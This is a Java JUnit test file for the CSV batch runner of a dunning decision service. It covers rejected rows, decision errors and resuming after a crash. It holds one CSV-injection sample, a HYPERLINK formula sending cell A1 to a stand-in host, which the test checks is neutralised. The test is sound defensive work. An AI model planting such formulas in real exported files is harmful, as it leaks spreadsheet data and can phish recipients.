package dev.dunning.service.batch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.opencsv.CSVReader;
import com.opencsv.RFC4180ParserBuilder;
import dev.dunning.datasets.portfolio.PortfolioCsv;
import dev.dunning.datasets.portfolio.PortfolioGenerator;
import dev.dunning.datasets.portfolio.PortfolioSpec;
import dev.dunning.rules.pack.PolicyPack;
import java.io.IOException;
import java.io.PrintStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The CSV batch end to end on a small generated portfolio with a bad row and an invalid one (named with a formula),
 * then interrupted and resumed.
 */
class FileBatchTest {
    private static final int ACCOUNTS = 400;
    private static InProcessDecider decider;
    private static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1;\"pay here\")";
    private static final PrintStream QUIET = new PrintStream(PrintStream.nullOutputStream());
    @TempDir
    Path dir;

    @BeforeAll
    static void compile() {
        decider = new InProcessDecider(PolicyPack.fromDirectory(Path.of("..", "rules", "policy")), ZoneId.of("Asia/Shanghai"));
    }

    @Test
    void decidesEveryGoodRowInInputOrderAndRejectsTheBadAndTheInvalidRowWithTheirLines() throws Exception {
        Path in = portfolio();
        Path out = dir.resolve("decisions.csv");
        FileBatch.Summary summary = new FileBatch(decider, 2, 50).decide(in, out, rejects(out), false, QUIET);

        assertThat(summary.total().read()).isEqualTo(ACCOUNTS + 2);
        assertThat(summary.total().decided()).isEqualTo(ACCOUNTS);
        assertThat(summary.total().rejected()).isEqualTo(2);
        assertThat(column(out, "requestId")).isEqualTo(requestIds(in));
        assertThat(column(out, "decision")).allSatisfy(json -> assertThat(json).startsWith("{\"accountId\":"));
        assertThat(column(rejects(out), "line")).containsExactly("12", "103");
        assertThat(column(rejects(out), "reason").get(0)).startsWith("expected 35 columns");
        assertThat(column(rejects(out), "reason").get(1)).startsWith("invalid: account.id:");
        assertThat(cell(rejects(out), 2, "name")).as("text in a spreadsheet, not a formula").isEqualTo("'" + FORMULA);
        assertThat(BatchFiles.checkpointOf(out)).doesNotExist();
    }

    @Test
    void anErrorInOneDecisionRejectsThatRowAndTheRunGoesOn() throws Exception {
        Path in = portfolio();
        Path out = dir.resolve("decisions.csv");
        String poisoned = requestIds(in).get(77);
        Decider overflowing = request -> {
            if (request.requestId().equals(poisoned)) {
                throw new StackOverflowError("thrown by the test");
            }
            return decider.decide(request);
        };
        FileBatch.Summary summary = new FileBatch(overflowing, 2, 50).decide(in, out, rejects(out), false, QUIET);

        assertThat(summary.total().decided()).isEqualTo(ACCOUNTS - 1);
        assertThat(column(rejects(out), "reason")).contains("decision failed: failed with java.lang.StackOverflowError");
        assertThat(column(out, "requestId")).doesNotContain(poisoned).hasSize(ACCOUNTS - 1);
    }

    @Test
    void aResumedRunAfterACrashWritesEveryAccountExactlyOnce() throws Exception {
        Path in = portfolio();
        Path out = dir.resolve("decisions.csv");
        AtomicInteger decided = new AtomicInteger();
        Decider crashing = request -> {
            if (decided.incrementAndGet() == 230) {
                throw new Decider.Unavailable("the test stops the run as a crash would", null);
            }
            return decider.decide(request);
        };
        assertThatThrownBy(() -> new FileBatch(crashing, 2, 50).decide(in, out, rejects(out), false, QUIET))
                .isInstanceOf(Decider.Unavailable.class);
        assertThat(BatchFiles.checkpointOf(out)).exists();
        // a process killed while writing leaves part of a chunk after the checkpoint
        Files.writeString(out, "half-written,row", StandardOpenOption.APPEND);

        assertThatThrownBy(() -> new FileBatch(decider, 2, 50).decide(in, out, rejects(out), false, QUIET))
                .isInstanceOf(BatchRefused.class).hasMessageContaining("--resume");
        FileBatch.Summary resumed = new FileBatch(decider, 2, 50).decide(in, out, rejects(out), true, QUIET);

        assertThat(resumed.before().read()).as("rows checkpointed before the crash (a worker may finish the chunk "
                + "before the one that crashed)").isPositive().isLessThan(ACCOUNTS);
        assertThat(resumed.total().decided()).isEqualTo(ACCOUNTS);
        assertThat(column(out, "requestId")).isEqualTo(requestIds(in)).doesNotHaveDuplicates();
        assertThat(column(rejects(out), "line")).containsExactly("12", "103");
    }

    /** Generated accounts, with a row of too few cells at line 12 and an account without id at line 103. */
    private Path portfolio() throws IOException {
        StringWriter text = new StringWriter();
        try (var csv = PortfolioCsv.writer(text)) {
            new PortfolioGenerator(new PortfolioSpec(5, ACCOUNTS, PortfolioSpec.DEFAULT_AS_OF)).requests().forEach(csv::write);
        }
        List<String> lines = new ArrayList<>(text.toString().lines().toList());
        lines.add(11, "not,a,portfolio,row");
        lines.add(102, String.join(",", quoted(withoutAccountId(lines.get(50)))));
        Path in = dir.resolve("portfolio.csv");
        Files.write(in, lines, StandardCharsets.UTF_8);
        return in;
    }

    /** The row of {@code line} with its accountId cell emptied, its requestId marked and a formula for a name. */
    private static String[] withoutAccountId(String line) throws IOException {
        String[] cells = new RFC4180ParserBuilder().build().parseLine(line);
        cells[PortfolioCsv.HEADER.indexOf("requestId")] += "-no-id";
        cells[PortfolioCsv.HEADER.indexOf("accountId")] = "";
        cells[PortfolioCsv.HEADER.indexOf("name")] = FORMULA;
        return cells;
    }

    private static List<String> quoted(String[] cells) {
        return java.util.Arrays.stream(cells).map(c -> c == null ? "" : "\"" + c.replace("\"", "\"\"") + "\"").toList();
    }

    private static Path rejects(Path out) {
        return out.resolveSibling(out.getFileName() + ".rejects.csv");
    }

    private static List<String> requestIds(Path portfolio) throws Exception {
        return column(portfolio, "requestId").stream().filter(id -> !id.equals("not") && !id.endsWith("-no-id")).toList();
    }

    private static List<String> column(Path csv, String name) throws Exception {
        try (CSVReader reader = new CSVReader(Files.newBufferedReader(csv))) {
            List<String[]> rows = reader.readAll();
            int index = List.of(rows.getFirst()).indexOf(name);
            return rows.stream().skip(1).map(r -> r[index]).toList();
        }
    }

    /** The cell of {@code row} (the header is row 0) in the column {@code name}. */
    private static String cell(Path csv, int row, String name) throws Exception {
        try (CSVReader reader = new CSVReader(Files.newBufferedReader(csv))) {
            List<String[]> rows = reader.readAll();
            return rows.get(row)[List.of(rows.getFirst()).indexOf(name)];
        }
    }
}
